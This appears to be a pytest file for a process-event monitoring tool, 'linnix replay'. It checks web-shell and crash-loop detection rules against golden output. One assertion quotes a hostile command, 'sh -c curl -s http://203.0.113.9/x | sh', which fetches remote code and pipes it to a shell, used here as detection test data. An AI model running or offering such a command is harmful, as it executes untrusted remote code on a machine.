"""Event rules in ``linnix replay``: the hand-made traces of ``fixtures/events/`` with its rules.

``fixtures/events/golden/NAME.jsonl`` and ``NAME.txt`` hold exactly what ``linnix replay
--rules fixtures/events/events.lnx fixtures/events/NAME.jsonl`` prints, minus the replay speed
(``support.without_speed``).  After an intended change, rewrite them with ``pytest
tests/runtime/test_replay_events.py --update-golden`` and review the diff.
"""

from __future__ import annotations

import json

import pytest
from support import ROOT, compare_golden, without_speed

from linnix import cli

EVENTS = ROOT / "fixtures" / "events"
GOLDEN = EVENTS / "golden"
TRACES = ("web_shell", "crash_loop")


def replay(capsys: pytest.CaptureFixture[bytes], *args: str) -> bytes:
    status = cli.main(["replay", "--rules", "fixtures/events/events.lnx", *args])
    out, err = capsys.readouterr()
    assert status == 0, err.decode()
    return out


def rows(capsys: pytest.CaptureFixture[bytes], name: str) -> list[dict[str, object]]:
    out = replay(capsys, "--format", "jsonl", f"fixtures/events/{name}.jsonl")
    return [json.loads(line) for line in out.splitlines()]


@pytest.fixture(autouse=True)
def _at_the_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)  # paths in the output are relative to the repository


def test_a_web_servers_50_ms_shell_fires_at_its_exec(
        capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    *alerts, summary = rows(capsysbinary, "web_shell")
    assert [(a["rule"], a["state"], a["trigger"], a["ts"], a["pid"]) for a in alerts] == [
        ("web_shell", "firing", "exec", 5.212, 5200)]  # the exec's own time, not a tick's
    assert alerts[0]["message"] == ("sh[5200] started by a web server (pid 401): "
                                    "sh -c curl -s http://203.0.113.9/x | sh")
    assert summary["alerts"] == {"web_shell": {"pending": 0, "firing": 1, "resolved": 0}}
    assert summary["event_rules"]["web_shell"] == {
        "trigger": "exec", "alerts": 1, "suppressed": {"cooldown": 0, "max_rate": 0},
        "cooldown_keys_evicted": 0}


def test_three_crashes_in_a_minute_fire_crash_loop_once_and_a_clean_exit_never(
        capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    *alerts, summary = rows(capsysbinary, "crash_loop")
    crash = [a for a in alerts if a["rule"] == "crash_loop"]
    assert [(a["ts"], a["pid"], a["values"]) for a in crash] == [
        (3.5, 700, {"crashed": True, "lifetime_s": 2.5})]
    assert summary["event_rules"]["crash_loop"]["suppressed"] == {"cooldown": 2,
                                                                 "max_rate": 0}
    # grep's exit code 1 failed; the SIGPIPE of `yes` and the backup's clean exit did not
    assert [(a["rule"], a["pid"]) for a in alerts if a["rule"] != "crash_loop"] == [
        ("failed_quickly", 702)]


def test_without_event_rules_the_summary_has_no_event_rules_part(
        capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    status = cli.main(["replay", "--rules", "rules/", "--format", "jsonl",
                       "fixtures/events/crash_loop.jsonl"])
    out, _ = capsysbinary.readouterr()
    assert status == 0
    assert "event_rules" not in json.loads(out.splitlines()[-1])



@pytest.mark.parametrize("name", TRACES)
def test_jsonl_replay_matches_the_golden_file(name: str,
                                              capsysbinary: pytest.CaptureFixture[bytes],
                                              update_golden: bool) -> None:
    got = without_speed(replay(capsysbinary, "--format", "jsonl",
                               f"fixtures/events/{name}.jsonl"))
    compare_golden(got, GOLDEN / f"{name}.jsonl", update_golden)


@pytest.mark.parametrize("name", TRACES)
def test_text_replay_matches_the_golden_file(name: str,
                                             capsysbinary: pytest.CaptureFixture[bytes],
                                             update_golden: bool) -> None:
    got = without_speed(replay(capsysbinary, f"fixtures/events/{name}.jsonl"))
    compare_golden(got, GOLDEN / f"{name}.txt", update_golden)


def test_the_rules_own_tests_pass(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["test", "fixtures/events/events.lnx"]) == 0, capsys.readouterr()
